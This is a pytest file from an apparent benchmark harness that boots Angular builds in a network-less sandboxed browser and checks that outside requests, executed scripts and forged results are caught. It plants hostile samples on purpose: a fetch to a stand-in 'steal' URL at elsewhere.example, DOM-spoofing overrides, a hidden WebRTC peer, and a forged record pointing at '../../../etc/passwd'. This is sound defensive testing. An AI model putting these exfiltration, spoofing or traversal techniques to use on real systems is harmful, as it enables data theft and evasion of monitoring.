"""What a boot sees, and what a page can do about it: nothing."""

import io
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest
from PIL import Image

from pytest_benchmac.model.errors import SandboxError
from pytest_benchmac.sandbox.base import Sandbox
from pytest_benchmac.tracks.angular.boot import browser
from pytest_benchmac.tracks.angular.boot.browser import BootPlan, BrokenBootError
from pytest_benchmac.tracks.angular.boot.compare import BootResult, compare, faults
from pytest_benchmac.tracks.angular.boot.conditions import draw
from pytest_benchmac.tracks.angular.boot.config import Boot, Route
from pytest_benchmac.tracks.angular.boot.record import BootRecord, Page
from pytest_benchmac.tracks.angular.boot.site import Site
from pytest_benchmac.tracks.angular.boot.uses import new_uses
from tests.tracks.angular.boot import site
from tests.tracks.angular.boot.conftest import BOOT, SEED, MakeBoot

HOME = BOOT.model_copy(update={"routes": BOOT.routes[:1]})


def judge(record: BootRecord, baseline: BootRecord, boot: Boot = BOOT) -> list[str]:
    return faults(
        BootResult(
            expected_major=2,
            min_tree_similarity=boot.min_tree_similarity,
            compared=True,
            declared=boot.pages,
            pages=compare(record, baseline, boot, {}),
        )
    )


def page_of(record: BootRecord, name: str) -> Page:
    return next(page for page in record.pages if page.name == name)


def test_pages_are_written_down_in_the_order_declared(honest: BootRecord) -> None:
    assert [page.name for page in honest.pages] == ["/", "/book", "/book [1]", "/nowhere"]
    assert all(page.rendered and page.settled and not page.problem for page in honest.pages)
    assert {page.version for page in honest.pages} == {"2.0.0"}
    assert judge(honest, honest) == []


def test_the_back_end_answers_from_fixtures(honest: BootRecord) -> None:
    assert "Tern Gannet" in page_of(honest, "/").text
    assert page_of(honest, "/").requests == ()


def test_fields_of_every_kind_are_filled(honest: BootRecord) -> None:
    assert "Ada to b, with a car: 201" in page_of(honest, "/book [1]").text
    assert ("status", "") in page_of(honest, "/book [1]").tree


def test_where_the_router_led_is_seen(honest: BootRecord) -> None:
    assert page_of(honest, "/nowhere").path == "/"


def told(record: BootRecord) -> list[str]:
    """What the front page says of its surroundings, last of all."""
    return page_of(record, "/").text.split()[-len(site.SURROUNDINGS) :]


def test_clock_zone_language_size_and_chance_are_the_seed_s(
    honest: BootRecord, boots: MakeBoot, built: Path
) -> None:
    drawn = draw(SEED, BOOT, ())
    seen = dict(zip(site.SURROUNDINGS, told(honest), strict=True))
    moment = datetime.fromisoformat(seen["clock"]).timestamp() * 1000
    assert drawn.now <= moment < drawn.now + 1000
    assert seen["zone"] == drawn.timezone
    assert seen["language"] == drawn.locale
    assert seen["width"] == str(drawn.viewport[0])
    assert seen["origin"] == drawn.origin
    assert seen["secure"] == "true"
    assert page_of(honest, "/nowhere").text == page_of(honest, "/").text
    other = dict(zip(site.SURROUNDINGS, told(boots(site.write(built), HOME, seed=2)), strict=True))
    for name in ("clock", "origin", "chance"):
        assert other[name] != seen[name]


def test_the_clock_runs(boots: MakeBoot, built: Path) -> None:
    extra = """
    const start = Date.now();
    setInterval(() => root.setAttribute('title', Date.now() - start), 100);
    """
    record = boots(site.write(built, extra=extra), HOME)
    shown = re.search(r'title="(\d+)"', record.pages[0].dom)
    assert shown is not None
    # The page never stays as it is: it is looked at when it has lived for ten seconds.
    assert int(shown[1]) >= 10_000
    assert not record.pages[0].settled


def test_nothing_tells_a_page_that_it_is_driven(honest: BootRecord) -> None:
    seen = dict(zip(site.SURROUNDINGS, told(honest), strict=True))
    assert seen["driven"] == "false"
    major = 133 if draw(SEED, BOOT, ()).older else 150
    assert seen["agent"] == f"Chrome/{major}.0.0.0"
    assert seen["natives"] == "native"
    assert seen["globals"] == "none"


def test_roles_and_names_are_the_browser_s(honest: BootRecord) -> None:
    tree = page_of(honest, "/book").tree
    for node in (
        ("heading", "Book"),
        ("textbox", "Name"),
        ("checkbox", "With a car"),
        ("button", "Go"),
    ):
        assert node in tree


def test_screenshots_have_the_viewport_s_size(honest: BootRecord, shots: Path) -> None:
    for page in honest.pages:
        assert page.screenshot is not None
        picture = Image.open(io.BytesIO((shots / page.screenshot).read_bytes()))
        assert picture.size == draw(SEED, BOOT, ()).viewport


def test_bubblewrap_sees_what_docker_sees(honest: BootRecord, boots: MakeBoot, built: Path) -> None:
    again = boots(site.write(built), name="bubblewrap")

    def seen(record: BootRecord) -> list[Page]:
        return [page.model_copy(update={"first_render_ms": None}) for page in record.pages]

    assert seen(again) == seen(honest)
    assert again.browser == honest.browser


def test_an_application_is_served_where_its_page_says(boots: MakeBoot, tmp_path: Path) -> None:
    built = site.write(tmp_path / "built")
    page = built / "index.html"
    page.write_text(page.read_text().replace('<base href="/">', '<base href="/ferry/1/">'))
    # Of this one, the router knows its pages below the base, as Angular's does.
    script = next(built.glob("main.*.js"))
    text = script.read_text().replace("location.pathname", "here()")
    own = "const here = () => location.pathname.replace('/ferry/1/', '/');\nfetch('api/none');\n"
    script.write_text(own + text.replace("null, '', path", "null, '', '/ferry/1' + path"))
    plain = site.write(tmp_path / "plain", extra="fetch('api/none');")
    baseline, record = boots(plain), boots(built)
    assert "http://localhost/api/none" in {each.url for each in page_of(baseline, "/").requests}
    assert judge(record, baseline) == []
    assert page_of(record, "/book").path == "/book"
    assert page_of(record, "/nowhere").path == "/"


@pytest.mark.parametrize(
    ("href", "base"),
    [
        ("/", "/"),
        ("/a/b/", "/a/b/"),
        ("/a/b", "/"),
        ("a/", "/"),
        ("//elsewhere.example/", "/"),
        ("https://elsewhere.example/a/", "/"),
        ("/a/../b/", "/"),
        ("/a/b?c/", "/"),
    ],
)
def test_a_base_is_a_folder_of_the_same_server(href: str, base: str, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(f"<head><meta charset=utf-8>\n<BASE HREF='{href}'></head>")
    found = Site.find(tmp_path)
    assert found is not None
    assert found.base == base


def test_a_page_of_tags_without_an_end_is_read_in_a_bounded_time(tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text("<base " * 170_000)
    found = Site.find(tmp_path)
    assert found is not None
    assert found.base == "/"


def test_what_is_neither_the_application_s_nor_a_fixture_is_refused_and_listed(
    boots: MakeBoot, built: Path, honest: BootRecord
) -> None:
    extra = """
    fetch('https://elsewhere.example/steal?x=1').catch(() => {});
    fetch('/data/missing.json');
    new WebSocket('wss://elsewhere.example/socket');
    window.open('https://elsewhere.example/');
    """
    record = boots(site.write(built, extra=extra), HOME)
    seen = {(each.method, each.url, each.why) for each in record.pages[0].requests}
    assert ("GET", "https://elsewhere.example/steal?x=1", "refused") in seen
    assert ("GET", "http://localhost/data/missing.json", "missing") in seen
    assert ("WS", "wss://elsewhere.example/socket", "refused") in seen
    # Refusals are no errors of the application; the file that is not there is one, and new hosts.
    found = judge(record, honest, HOME)
    assert found
    told = ("missing.json", "Blocked opening", "asks elsewhere.example, which the base never does")
    assert all(any(each in fault for each in told) for fault in found)
    assert any(told[2] in fault for fault in found)


@pytest.mark.parametrize("name", ["docker", "bubblewrap"])
def test_the_browser_s_sandbox_has_no_network(
    browser_sandbox: Callable[[str], Sandbox], tmp_path: Path, name: str
) -> None:
    with browser_sandbox(name) as sandbox:
        result = sandbox.run(
            "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; cat /proc/net/route | wc -l",
            timeout_s=30,
            log=tmp_path / "log",
            capture_bytes=1000,
        )
    assert result.stdout.decode().split() == ["lo", "1"]


#: Path -> what the application does there before it starts, and the fault that is told.
FAULTS = {
    "/broken": ("throw new Error('broken');", "the root element is empty"),
    "/late": ("setTimeout(() => { throw new Error('late'); });", "uncaught exception: Error: late"),
    "/adrift": ("Promise.reject(new Error('adrift'));", "uncaught exception: Error: adrift"),
    "/lost": ("console.error('ERROR', 'lost');", "error logged: ERROR lost"),
    "/hangs": ("setTimeout(() => { for (;;); }, 100);", "no answer"),
}


@pytest.fixture(scope="module")
def faulty(boots: MakeBoot, tmp_path_factory: pytest.TempPathFactory) -> BootRecord:
    """One boot with a route for each fault, and one that is well."""
    cases = "".join(f"case '{path}': {code} break;" for path, (code, _) in FAULTS.items())
    folder = site.write(
        tmp_path_factory.mktemp("faulty"), extra=f"switch (location.pathname) {{ {cases} }}"
    )
    routes = tuple(Route(path=path) for path in (*FAULTS, "/boats"))
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(browser, "_ANSWER_MS", 4_000)
        patched.setattr(browser, "_RENDER_MS", 4_000)
        return boots(folder, BOOT.model_copy(update={"routes": routes}))


@pytest.mark.parametrize("path", FAULTS)
def test_what_keeps_an_application_from_booting(
    faulty: BootRecord, honest: BootRecord, path: str
) -> None:
    told = [fault for fault in judge(faulty, honest) if fault.startswith(f"{path}: ")]
    assert told
    assert all(FAULTS[path][1] in fault for fault in told[:1])


def test_one_bad_page_leaves_the_others_alone(faulty: BootRecord, honest: BootRecord) -> None:
    assert "Two boats sail" in page_of(faulty, "/boats").text
    assert not any(fault.startswith("/boats") for fault in judge(faulty, honest))


def test_another_version_than_the_target_s_is_seen_at_run_time(
    boots: MakeBoot, built: Path, honest: BootRecord
) -> None:
    found = judge(boots(site.write(built, version="1.9.0"), HOME), honest, HOME)
    assert found == ["/: 1.9.0 is running; wanted: 2.x"]


def test_a_page_cannot_change_what_is_seen_of_it(
    boots: MakeBoot, built: Path, honest: BootRecord
) -> None:
    lies = """
    for (const name of ['outerHTML', 'innerHTML', 'textContent']) {
      const own = Object.getOwnPropertyDescriptor(Element.prototype, name)
        ?? Object.getOwnPropertyDescriptor(Node.prototype, name);
      globalThis['set_' + name] = own.set;
    }
    addEventListener('load', () => {
      const lie = { get: () => '<app-root ng-version="2.0.0"><h1>Ferries</h1></app-root>' };
      for (const name of ['outerHTML', 'innerHTML', 'textContent', 'innerText']) {
        Object.defineProperty(HTMLElement.prototype, name, lie);
      }
      document.querySelector = () => ({ attributes: [], childNodeCount: 1 });
      JSON.stringify = Array.prototype.map = () => '{}';
    });
    """
    gutted = site.MAIN.replace("root.innerHTML = pages[path]();", "root.append('Closed.');")
    folder = site.write(built, extra=lies, main=gutted.replace("if (path === '/') load();", ""))
    record = boots(folder, HOME)
    assert record.pages[0].text == "Closed."


def test_every_script_that_is_executed_is_told(
    boots: MakeBoot, built: Path, honest: BootRecord
) -> None:
    extra = """
    const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
    import(blob('1 + 1')).catch(() => {});
    import('data:text/javascript,2+2').catch(() => {});
    new Worker(blob('postMessage(1)'));
    (0, eval)('3 + 3 //# sourceURL=' + location.origin + '/main.0123456789abcdef.js');
    const added = document.createElement('script');
    added.textContent = '4 + 4';
    document.head.append(added);
    const handled = document.createElement('i');
    handled.setAttribute('onclick', '5 + 5');
    handled.click();
    setTimeout('6 + 6');
    """
    executed = boots(site.write(built, extra=extra), HOME).executed
    kinds = {each.start.split(" ")[0][0]: each.kind for each in executed.foreign}
    assert kinds == {
        **{"1": "blob", "2": "data", "3": "eval", "4": "eval", "5": "inline", "6": "eval"}
    }
    # On the page, and on each of the two control visits before and after another site.
    assert executed.workers == 5
    assert not executed.peers
    assert list(executed.files) == ["main.0123456789abcdef.js"]
    assert honest.executed.foreign == ()
    assert list(honest.executed.files) == ["main.0123456789abcdef.js"]


def test_what_pages_use_and_listen_to_is_told_whatever_they_call_it(
    boots: MakeBoot, built: Path, honest: BootRecord
) -> None:
    extra = """
    const named = (...letters) => letters.join('');
    const of = globalThis[named('navi', 'gator')];
    Reflect.get(of, named('hardware', 'Concurrency'));
    const made = document.createElement('iframe');
    document.body.append(made);
    made.contentWindow.visualViewport.height;
    made.remove();
    EventTarget.prototype.addEventListener.call(globalThis, named('pa', 'geshow'), () => {});
    document.body.oncopy = () => {};
    """
    record = boots(site.write(built, extra=extra), HOME)
    assert new_uses(honest.executed, record.executed) == tuple(
        f"{each}, which the base never {'has' if 'frame' in each else 'does'}"
        for each in (
            *("has a frame", "uses visualViewport.height", "uses pageshow"),
            *("uses navigator.hardwareConcurrency",),
            *("listens to 'copy'", "listens to 'pageshow'"),
        )
    )


def test_a_connection_to_another_browser_is_written_down(
    boots: Callable[..., BootRecord], built: Path
) -> None:
    """Also one of a frame that is gone at once, whose constructor no name leads to."""
    extra = """
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const names = Object.getOwnPropertyNames(frame.contentWindow);
    const made = names.find((name) => /^RTCPeer\\w+ion$/.test(name));
    const peer = new frame.contentWindow[made]();
    peer.createDataChannel('any');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    frame.remove();
    """
    assert boots(site.write(built, extra=extra), HOME).executed.peers


def test_a_browser_that_does_not_start_is_the_harness_s_failure(
    boots: MakeBoot, built: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser, "CHROMIUM", "/usr/bin/none")
    with pytest.raises(SandboxError, match="does not start"):
        boots(site.write(built), HOME)


def test_a_browser_that_ends_as_it_starts_is_started_again(
    browser_sandbox: Callable[[str], Sandbox],
    built: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    found = Site.find(site.write(built))
    assert found is not None
    with browser_sandbox("bubblewrap") as sandbox:
        real, once = browser.CHROMIUM, sandbox.project / "once"
        script = f'#!/bin/sh\nmkdir {once} 2>/dev/null && kill -SEGV $$\nexec {real} "$@"\n'
        sandbox.copy_in(script.encode(), sandbox.inbox / "script")
        starter = sandbox.project / "starter"
        made = sandbox.run(
            f"cp {sandbox.inbox}/script {starter} && chmod +x {starter}",
            timeout_s=30,
            log=tmp_path / "made.log",
        )
        assert made.exit_code == 0
        monkeypatch.setattr(browser, "CHROMIUM", starter)
        plan = BootPlan(HOME, (), tmp_path, 60, SEED)
        running = sandbox.start(plan.bring(sandbox), log=tmp_path / "boot.log")
        record = plan.drive(
            sandbox,
            lambda seconds: running.wait(seconds).exit_code,
            found,
            screenshots=tmp_path / "shots",
        )
    assert [page.problem for page in record.pages] == [""]
    assert "SIGSEGV" in (tmp_path / "boot.log").read_text()


def test_nobody_waits_for_a_driver_that_has_ended(
    browser_sandbox: Callable[[str], Sandbox],
    built: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(browser, "PLAYWRIGHT", "none")
    plan = replace(BootPlan(HOME, (), tmp_path, 30, SEED), base=Site.find(site.write(built)))
    with browser_sandbox("bubblewrap") as sandbox:
        running = sandbox.start(plan.bring(sandbox), log=tmp_path / "log")
        with pytest.raises(BrokenBootError, match="broke off"):
            plan.base_record(sandbox, tmp_path / "shots")
        assert running.wait(30).exit_code == 1


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("mkdir -p out/case; echo '{}' > out/case/result.json", "is not one"),
        ("mkdir out; exit 3", "exit code 3"),
        (
            """mkdir -p out/case; echo '{"browser": "1", "pages": [{"route": "/", "step": 0,
            "url": "", "title": "", "lived_ms": 0, "first_render_ms": null, "settled": true,
            "nodes": [], "texts": [], "looks": [], "tree": [],
            "screenshot": "../../../etc/passwd", "problem": "", "console": [],
            "exceptions": [], "requests": []}], "executed": {}}' > out/case/result.json""",
            "is not one",
        ),
    ],
)
def test_a_forged_record_is_none(
    browser_sandbox: Callable[[str], Sandbox], built: Path, tmp_path: Path, command: str, why: str
) -> None:
    found = Site.find(site.write(built))
    assert found is not None
    with browser_sandbox("bubblewrap") as sandbox, pytest.raises(BrokenBootError, match=why):
        BootPlan(HOME, (), tmp_path, 30, SEED).drive(
            sandbox,
            lambda timeout_s: (
                sandbox.run(command, timeout_s=timeout_s, log=tmp_path / "log").exit_code
            ),
            found,
            screenshots=tmp_path / "shots",
        )
